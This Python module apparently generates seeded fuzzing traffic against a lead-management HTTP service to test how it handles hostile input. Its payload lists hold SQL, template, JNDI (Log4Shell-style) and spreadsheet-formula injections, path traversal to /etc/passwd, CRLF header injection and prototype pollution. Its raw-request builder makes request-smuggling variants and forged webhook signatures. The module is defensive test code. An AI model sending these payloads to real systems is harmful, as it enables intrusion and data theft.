"""Requests by chance, of every kind that comes: good leads, the same again, spoiled ones, and what somebody sends who means harm.

Each is bytes, as they go over the wire. The same seed gives the same requests.
"""

from __future__ import annotations

import json
import random
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

from client.hooks.file import HookFile
from client.hooks.signed import signature_of

TEXTS = (
    "'); drop table lead; --",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}{% for i in range(9) %}",
    "${jndi:ldap://x.example/a}",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "x\r\nset-cookie: a=b",
    "\x00",
    "\x1b[2J\x07",
    "\u202eevil\u202c",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 💥 ß ﷽",
    "%s%n%x",
    "null",
    "",
    " ",
    "-1",
    "1e309",
    "9" * 400,
    "A" * 3_000,
)
VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 2**31, 2**63, 10**40, 1.5, -0.0, 1e308),
    *([], [1], {}, {"$gt": ""}, {"a": {"b": []}}, [[[[]]]]),
)
FIELDS = (
    *(
        "id",
        "source_system",
        "title",
        "touch_id",
        "kind",
        "channel",
        "source",
        "campaign",
        "origin",
        "company",
        "country",
    ),
    *("contact_name", "email", "phone", "message", "product_line", "sector", "employees", "customer", "budget"),
    *(
        "authority",
        "need",
        "timeframe",
        "wake_on",
        "value",
        "estimate",
        "expected_on",
        "__proto__",
        "no_such_field",
        "stage",
        "owner",
    ),
)
EVENTS = (
    "accept",
    "reject",
    "contact",
    "seen",
    "hold",
    "resume",
    "note",
    "update",
    "assign",
    "claim",
    "qualify",
    "arrive",
    "no_such",
)
PEOPLE = ("system", "jonas_keller", "anna_schulz", "maria_lopez", "marketing", "ops", "lead", "nobody")
NAMES = ("Havel", "Nordwerk", "Cobalt", "Isar", "Thornbury", "Acme", "Pennant", "Vaubrun", "Desert", "Eastmere")


@dataclass(frozen=True)
class Sent:
    """One request. `last`: nothing can follow it on its connection; `cut`: the sender goes away after it."""

    kind: str
    raw: bytes
    last: bool = False
    cut: bool = False


class Hostile:
    """`tokens`: upstream and admin. Keys that were answered are told by `learn`, so that later requests are about them."""

    def __init__(self, seed: int, tokens: tuple[str, str], hooks: Mapping[str, HookFile], secret: str) -> None:
        self._chance = random.Random(seed)
        self._upstream, self._admin = tokens
        self._hooks, self._secret = hooks, secret
        self._number = 0
        self._sent: list[bytes] = []
        self._keys: list[str] = ["lead:web:none"]
        self._run = f"{seed}-{int(time.time())}"

    def learn(self, key: str) -> None:
        self._keys.append(key)
        del self._keys[:-500]

    def requests(self, count: int) -> Iterator[Sent]:
        kinds = {
            self._good: 36,
            self._again: 8,
            self._spoiled: 20,
            self._event: 9,
            self._asked: 6,
            self._batch: 3,
            self._hook: 7,
            self._raw: 8,
            self._elsewhere: 5,
        }
        for make in self._chance.choices(list(kinds), list(kinds.values()), k=count):
            yield make()

    # Leads.

    def _lead(self) -> dict[str, Any]:
        chance = self._chance
        self._number += 1
        lead: dict[str, Any] = {
            "id": f"{self._run}-{self._number}",
            "kind": "sales",
            "channel": chance.choice(("direct", "indirect")),
            "source": chance.choice(("web", "webinar", "trade_show")),
            "company": f"{chance.choice(NAMES)} {self._number}",
            "country": chance.choice(("DE", "FR", "GB", "US", "AT")),
            "product_line": chance.choice(("pumps", "valves", "service")),
            "email": f"p{self._number}@c{self._number}.example",
        }
        more = {"employees": 40, "budget": 3, "need": True, "message": "Bitte rufen Sie an.", "sector": "industry"}
        lead |= {name: value for name, value in more.items() if chance.random() < 0.4}
        return lead

    def _good(self) -> Sent:
        raw = self._post("/leads", self._lead(), *self._key())
        self._sent.append(raw)
        del self._sent[:-300]
        return Sent("lead", raw)

    def _again(self) -> Sent:
        return Sent("again", self._chance.choice(self._sent)) if self._sent else self._good()

    def _spoiled(self) -> Sent:
        lead = self._lead()
        for _ in range(self._chance.randint(1, 4)):
            self._spoil(lead)
        return Sent("spoiled", self._post("/leads", lead, *self._key()))

    def _spoil(self, body: dict[str, Any]) -> None:
        chance = self._chance
        match chance.randrange(5):
            case 0:
                body.pop(chance.choice(list(body)), None) if body else None
            case 1:
                body[chance.choice(TEXTS)] = chance.choice(TEXTS)
            case _:
                body[chance.choice(FIELDS)] = chance.choice(TEXTS if chance.random() < 0.6 else VALUES)

    def _batch(self) -> Sent:
        chance = self._chance
        lines = []
        for _ in range(chance.randint(0, 12)):
            lead = self._lead()
            if chance.random() < 0.3:
                self._spoil(lead)
            line = json.dumps(lead).encode()
            if chance.random() < 0.1:
                line = bytes(chance.choices(range(256), k=40))
            lines += [line] * (2 if chance.random() < 0.1 else 1)
        raw = self._request("POST", "/leads/batch", b"\n".join(lines), b"content-type: application/x-ndjson")
        if lines and chance.random() < 0.2:
            return Sent("batch cut", raw[: -chance.randint(1, 60)], last=True, cut=True)
        return Sent("batch", raw)

    # What there is.

    def _event(self) -> Sent:
        chance = self._chance
        body: dict[str, Any] = {"event": chance.choice(EVENTS)}
        if chance.random() < 0.5:
            body["by"] = chance.choice(PEOPLE)
        if chance.random() < 0.3:
            body |= {"fields": {chance.choice(FIELDS): chance.choice((*TEXTS, *VALUES))}, "note": chance.choice(TEXTS)}
        if chance.random() < 0.2:
            body |= {"codes": {"reason": chance.choice(TEXTS)}, "to": chance.choice(PEOPLE), "id": chance.choice(TEXTS)}
        if chance.random() < 0.2:
            self._spoil(body)
        key = quote(chance.choice(self._keys), safe=":")
        return Sent("event", self._post(f"/leads/{key}/events", body, *self._key(), token=self._admin))

    def _asked(self) -> Sent:
        chance = self._chance
        key = quote(chance.choice((*self._keys[-40:], *TEXTS)), safe="")[:3_000]
        path = f"/leads/{key}{chance.choice(('', '', '/allowed', '/allowed?by=' + quote(chance.choice(TEXTS))[:500]))}"
        token = chance.choice((self._admin, self._upstream))
        return Sent("asked", self._request("GET", path, token=token))

    def _hook(self) -> Sent:
        chance = self._chance
        name = chance.choice(list(self._hooks))
        rule, lead, at = self._hooks[name], self._lead(), int(time.time() + chance.choice((0, 0, 0, -100_000, 100_000)))
        if name == "crm":
            body: dict[str, Any] = {
                "event": {"id": lead["id"], "type": "contact.created"},
                "contact": {"id": lead["id"]},
            }
            body["contact"] |= {"company": {"name": lead["company"], "country_code": lead["country"]}}
        else:
            sent = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(at))
            answers = [{"field": {"ref": "country"}, "choice": {"id": lead["country"]}}]
            answers += [{"field": {"ref": "company"}, "text": lead["company"]}]
            form = {"form_id": "request_offer", "token": lead["id"], "submitted_at": sent, "answers": answers}
            body = {"event_id": lead["id"], "event_type": "form_response", "form_response": form}
        if chance.random() < 0.3:
            self._spoil(body)
        raw = urlencode(lead).encode() if chance.random() < 0.1 else json.dumps(body).encode()
        stamp = str(at) if rule.timestamp.header else ""
        signature = signature_of(rule, self._secret if chance.random() < 0.8 else "guessed", stamp, raw)
        told = f"t={at},v1={signature}" if rule.signature.part else signature
        header = f"{rule.signature.header}: {told}".encode()
        kind = b"content-type: " + chance.choice(
            (b"application/json", b"application/json", b"application/x-www-form-urlencoded")
        )
        return Sent("hook", self._request("POST", f"/hooks/{name}", raw, header, kind, token=None))

    # What is no request, or should be none.

    def _raw(self) -> Sent:
        chance = self._chance
        body = json.dumps(self._lead()).encode()
        good = self._request("POST", "/leads", body, b"content-type: application/json")
        spoiled = (
            good.replace(b"content-length:", b"content-length: 3\r\ncontent-length:"),
            good.replace(b"content-length:", b"transfer-encoding: chunked\r\ncontent-length:"),
            good.replace(b"content-length: ", b"content-length: -"),
            good.replace(b"content-length: ", b"content-length: 9999999999"),
            good.replace(b"host: leadflow", b"host: leadflow\r\nx-big: " + b"a" * chance.choice((20_000, 70_000))),
            good.replace(b"host: leadflow", b"host: leadflow\r\n" + b"x: y\r\n" * 300 + b"z: 1"),
            good.replace(b"host: leadflow", b"host: leadflow\r\nx: \xff\xfe\x80"),
            good.replace(b"host: leadflow\r\n", b"host: leadflow\nx: y\n"),
            good.replace(b"host: leadflow\r\n", b""),
            good.replace(
                b"POST", chance.choice((b"GET", b"PUT", b"DELETE", b"PATCH", b"TRACE", b"CONNECT", b"\x00", b"post"))
            ),
            good.replace(b"HTTP/1.1", chance.choice((b"HTTP/1.0", b"HTTP/0.9", b"HTTP/2", b""))),
            good.replace(
                b"application/json", chance.choice((b"text/html", b"application/json; charset=utf-16", b"", b"\xff"))
            ),
            good.replace(b"content-length", b"content-encoding: gzip\r\ncontent-length"),
            good.replace(b"Bearer lf_", chance.choice((b"Bearer xx_", b"Basic ", b"Bearer \x80", b"Bearer lf_lf_"))),
            self._request("POST", "/leads", b"[" * 100_000, b"content-type: application/json"),
            self._request("POST", "/leads", b'{"id":' * 20_000, b"content-type: application/json"),
            self._request("POST", "/leads", body.replace(b"a", b"\xff"), b"content-type: application/json"),
            self._request("POST", "/leads", body.replace(b"sales", b"\\ud800"), b"content-type: application/json"),
            self._request("POST", "/leads", body[:-5], b"content-type: application/json"),
            good.replace(b"content-length", b"expect: 100-continue\r\ncontent-length"),
            bytes(chance.choices(range(256), k=chance.randint(1, 400))) + b"\r\n\r\n",
            b"GET " + b"/" * 70_000 + b" HTTP/1.1\r\nhost: x\r\n\r\n",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
            good[: chance.randint(1, len(good) - 1)],
        )
        return Sent("raw", chance.choice(spoiled), last=True, cut=True)

    def _elsewhere(self) -> Sent:
        chance = self._chance
        text = quote(chance.choice(TEXTS), safe="")[:1_000]
        path = chance.choice(
            (
                *("/", "/openapi.json", "/healthz", "/readyz", "/leads", "/hooks/none", "/leads/batch"),
                *("/%00", "//", "/..%2f..%2fetc/passwd", f"/{text}", f"/leads?{text}={text}"),
                *("/me", "/sign-in", "/sign-out", "/sign-in/provider", f"/sign-in/answer?code={text}&state={text}"),
            )
        )
        method = chance.choice(("GET", "GET", "HEAD", "POST", "POST", "PUT", "DELETE", "OPTIONS"))
        kind = chance.choice((b"application/json", b"application/x-www-form-urlencoded"))
        body = chance.choice((b"{}", urlencode({"token": chance.choice(TEXTS), "csrf": "x"}).encode()))
        value = chance.choice((b"x", b"\xff", b"a" * 3_000, b"e30.x.y"))
        cookie = b"cookie: leadflow=%b; leadflow_form=%b; leadflow_way=%b" % (value, value, value)
        raw = self._request(method, path, body if method == "POST" else b"", b"content-type: " + kind, cookie)
        return Sent("elsewhere", raw, last=method == "HEAD", cut=method == "HEAD")

    def _key(self) -> tuple[bytes, ...]:
        if self._chance.random() > 0.15:
            return ()
        return (
            b"idempotency-key: " + self._chance.choice(("k-1", "k-2", f"k-{self._number}", "x" * 300, "")).encode(),
        )

    def _post(self, path: str, body: Mapping[str, Any], *headers: bytes, token: str | None = "") -> bytes:
        raw = json.dumps(body, ensure_ascii=self._chance.random() < 0.5).encode("utf-8", "surrogatepass")
        return self._request("POST", path, raw, b"content-type: application/json", *headers, token=token)

    def _request(self, method: str, path: str, body: bytes = b"", *headers: bytes, token: str | None = "") -> bytes:
        """`token`: the upstream system's, if left out; None is none."""
        lines = [f"{method} {path} HTTP/1.1\r\nhost: leadflow".encode()]
        if token is not None:
            lines.append(f"authorization: Bearer {token or self._upstream}".encode())
        lines += [*headers, f"content-length: {len(body)}".encode()]
        return b"\r\n".join(lines) + b"\r\n\r\n" + body
